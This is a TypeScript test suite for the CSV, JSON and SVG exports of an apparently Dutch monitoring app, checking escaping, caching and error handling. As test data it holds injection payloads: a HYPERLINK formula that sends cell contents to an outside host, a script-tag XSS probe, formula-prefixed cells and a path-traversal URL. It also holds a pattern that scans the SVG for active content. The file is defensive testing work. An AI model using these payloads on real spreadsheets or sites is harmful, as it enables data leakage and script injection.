import { TestHub } from '../support/hub.ts'
import { Partner } from '../support/learning.ts'
import { THIS_YEAR, aYearLater, download, opened, published, records, tells } from '../support/monitoring.ts'
import type { Person } from '../support/person.ts'

const KEY = 'inwoners-kennen-dimensies'
const FORMULA = `=HYPERLINK("https://example.org?x="&A1;"klik")`

/** The cells of a CSV text, as RFC 4180 has them. */
function cells(csv: string, delimiter = ','): string[][] {
  const rows: string[][] = [[]]
  const cell = new RegExp(`(?:"((?:[^"]|"")*)"|([^"${delimiter}\\r\\n]*))(${delimiter}|\\r\\n|$)`, 'y')
  for (let match = cell.exec(csv); match; match = cell.exec(csv)) {
    const [, quoted, plain = '', end] = match
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'))
    if (!end || cell.lastIndex === csv.length) return rows
    if (end === '\r\n') rows.push([])
  }
  throw new Error(`This is no CSV from here on: ${csv.slice(cell.lastIndex, cell.lastIndex + 80)}`)
}

/** What is left of an XML document without its well-formed parts. */
const leftOf = (xml: string): string =>
  xml
    .replace(/<!\[CDATA\[[^]*?\]\]>/g, '')
    .replace(/<\/?[a-z]+(?: [\w:-]+="[^"<&]*")* ?\/?>/gi, '')
    .replace(/&(?:amp|lt|gt|quot|#39|#x27);/g, '')
    .replace(/[^<>&\p{Cc}]|\n/gu, '')

describe('A monitoring round to take elsewhere', () => {
  let hub: TestHub
  let coordinator: Person
  let marente: Partner
  const [csv, json, svg] = [
    `/monitoring/${THIS_YEAR}.csv`,
    `/monitoring/${THIS_YEAR}.json`,
    `/monitoring/${THIS_YEAR}/${KEY}.svg`,
  ] as const
  beforeAll(async () => {
    hub = await TestHub.start()
    coordinator = await hub.person({ coordinator: true })
    marente = await Partner.of(hub, 'Marente')
    await marente.shares({ levels: ['NANO'] })
    await aYearLater(hub)
    await marente.shares({ levels: ['NANO'] })
    await marente.shares({ levels: ['NANO'] })
    await opened(coordinator, THIS_YEAR - 1)
    await records(coordinator, { year: THIS_YEAR - 1, value: 38 })
    await opened(coordinator)
    await records(coordinator, { label: '<script>alert(1)</script> &\u0001 "zo"', unit: '+10%', source: '\t@SUM(A1)' })
    await records(coordinator, { key: 'min', label: '-2+3', value: -2.25, level: 'MACRO' })
    await tells(marente.editor, { narrative: FORMULA })
    await tells(marente.editor, { level: 'NANO', narrative: 'Voorbeeld, met "komma"; en\nregel' })
    await published(coordinator, await opened(coordinator))
  })
  afterAll(() => hub.stop())

  describe('as CSV', () => {
    it('is a file for a spreadsheet, with a line for each number and each narrative', async () => {
      const answer = await download(hub.visitor, csv)
      expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
      expect(answer.headers.get('content-disposition')).toBe(`attachment; filename="monitoring-${THIS_YEAR}.csv"`)
      const bytes = Buffer.from(await answer.arrayBuffer())
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
      const [header = [], ...rows] = cells(bytes.subarray(3).toString('utf8'))
      expect(header.slice(0, 4)).toEqual(['Jaar', 'Stand', 'Onderdeel', 'Niveau'])
      expect(new Set(rows.map(row => row.length))).toEqual(new Set([header.length]))
      const column = (name: string) => header.indexOf(name)
      const nano = rows.find(row => row[column('Sleutel')] === 'practices-nano') ?? []
      expect([nano[column('Waarde')], nano[column('Vorig jaar')], nano[column('Aard')]]).toEqual(['2', '1', 'afgeleid'])
      const words = rows.filter(row => row[column('Onderdeel')] === 'Verhaal')
      expect(words.map(row => [row[column('Naam')], row[column('Toelichting')]])).toEqual([
        ['Marente', 'Voorbeeld, met "komma"; en\nregel'],
        ['Marente', `'${FORMULA}`],
      ])
    })

    it('has no cell that a spreadsheet works out, and numbers that stay numbers', async () => {
      const text = await (await download(hub.visitor, csv)).text()
      const all = cells(text.replace(/^\ufeff/, '')).flat()
      const working = all.filter(cell => /^\s*[=+\-@\t\r]/.test(cell))
      expect(working).toEqual(['-2.25'])
      expect(all).toEqual(expect.arrayContaining([`'-2+3`, `'+10%`, `'@SUM(A1)`, '41.5', '38']))
    })

    it('is given as Dutch spreadsheets read it where that is asked for', async () => {
      const text = await (await download(hub.visitor, `${csv}?decimal=comma`)).text()
      const all = cells(text.replace(/^\ufeff/, ''), ';').flat()
      expect(all).toEqual(expect.arrayContaining(['-2,25', '41,5', 'Vorig jaar', 'Voorbeeld, met "komma"; en\nregel']))
    })
  })

  it('as JSON says the same as the API', async () => {
    const query = `query ($year: Int!) { monitoringRound(year: $year) { alliance { name } year status publishedAt
      indicators { key label level nature definition version unit source value previousValue }
      responses { nodes { organisation { name } level narrative submittedAt } } } }`
    const { monitoringRound } = await hub.visitor.get<{
      monitoringRound: { responses: { nodes: unknown[] } } & Record<string, unknown>
    }>(query, { year: THIS_YEAR })
    const answer = await download(hub.visitor, json)
    expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8')
    expect(await answer.json()).toEqual({ ...monitoringRound, responses: monitoringRound.responses.nodes })
  })

  it('as JSON has the words of all, however many tell', async () => {
    await opened(coordinator, 2002)
    await hub.db.query(
      `insert into monitoring_response (id, round_id, organisation_id, level, narrative, submitted_at)
       select gen_random_uuid(), r.id, o.id, level, o.name || level, now() from monitoring_round r, organisation o,
         unnest(array['NANO', 'MICRO', 'MESO', 'MACRO', 'NANO']) with ordinality l (level, place)
       where r.year = 2002 and place <= 4`,
    )
    const [{ count } = { count: 0 }] = await hub.db.query<{ count: number }[]>(
      'select count(*)::int * 4 as count from organisation',
    )
    const told = (await (await download(coordinator, '/monitoring/2002.json')).json()) as {
      responses: { narrative: string }[]
    }
    expect(count).toBeGreaterThan(100)
    expect(new Set(told.responses.map(({ narrative }) => narrative)).size).toBe(count)
  })

  describe('as a chart', () => {
    it('is an SVG that says what it shows and runs nothing', async () => {
      const answer = await download(hub.visitor, svg)
      expect(answer.headers.get('content-type')).toBe('image/svg+xml; charset=utf-8')
      expect(answer.headers.get('content-security-policy')).toContain("default-src 'none'")
      const text = await answer.text()
      expect(text).toMatch(/^<svg [^>]*role="img" aria-labelledby="title desc" lang="nl">/)
      expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; ')
      expect(text).toContain('41,5')
      expect(leftOf(text)).toBe('')
      expect(text).not.toMatch(/<script|<image|<use|href=|@import|url\(|<foreignObject/i)
    })

    it('shows the year before, and says so in words', async () => {
      const text = await (await download(hub.visitor, `/monitoring/${THIS_YEAR}/practices-nano.svg`)).text()
      expect(text).toContain(`<desc id="desc">${THIS_YEAR - 1}: 1; ${THIS_YEAR}: 2. Telt goede voorbeelden`)
    })

    it('stands at the address that the API gives', async () => {
      const query = `query ($year: Int!) { monitoringRound(year: $year) { csvUrl jsonUrl indicators { key chartUrl } } }`
      type Addresses = { csvUrl: string; jsonUrl: string; indicators: { key: string; chartUrl: string }[] }
      const { monitoringRound } = await hub.visitor.get<{ monitoringRound: Addresses }>(query, { year: THIS_YEAR })
      const { csvUrl, jsonUrl, indicators } = monitoringRound
      expect([csvUrl, jsonUrl]).toEqual([`${hub.url}${csv}`, `${hub.url}${json}`])
      for (const { key, chartUrl } of indicators) {
        const answer = await fetch(chartUrl)
        expect([key, answer.status]).toEqual([key, 200])
        await answer.text()
      }
    })

    it('is shown without a bar where there is nothing to compare', async () => {
      const text = await (await download(coordinator, '/monitoring/2002/sessions-held.svg')).text()
      expect(text).toContain('<desc id="desc">2002: 0. Telt')
      expect(text).toContain('voorlopig')
    })
  })

  it.each([csv, json, svg])('is not sent again to who has %s already', async path => {
    const first = await download(hub.visitor, path)
    const etag = first.headers.get('etag') ?? ''
    expect(first.headers.get('vary')).toContain('Authorization')
    expect((await download(hub.visitor, path, { 'if-none-match': etag })).status).toBe(304)
    expect((await download(hub.visitor, path, { 'if-none-match': '"other"' })).status).toBe(200)
    const own = await download(coordinator, path)
    expect(own.headers.get('cache-control')).toContain('private')
    const head = await download(hub.visitor, path, {}, 'HEAD')
    expect([head.status, await head.text()]).toEqual([200, ''])
  })

  it('is refused in a form that it has not', async () => {
    const answer = await download(hub.visitor, `${csv}?decimal=semicolon`)
    const { errors } = (await answer.json()) as { errors: { extensions: { code: string } }[] }
    expect([answer.status, errors.map(({ extensions }) => extensions.code)]).toEqual([400, ['BAD_USER_INPUT']])
  })

  it('is read, not written', async () => {
    for (const path of [csv, json, svg]) expect((await download(coordinator, path, {}, 'POST')).status).toBe(405)
  })

  it.each([
    '/monitoring',
    '/monitoring/1999.csv',
    '/monitoring/20270.csv',
    '/monitoring/2027.xlsx',
    `/monitoring/${THIS_YEAR}/unknown.svg`,
    `/monitoring/${THIS_YEAR}/${'x'.repeat(61)}.svg`,
    `/monitoring/${THIS_YEAR}/..%2fx.svg`,
    `/monitoring/${THIS_YEAR}.csv?alliance=elders`,
    `/monitoring/${THIS_YEAR}.csv?alliance=%00`,
  ])('is not at %s', async path => {
    expect((await download(coordinator, path)).status).toBe(404)
  })
})
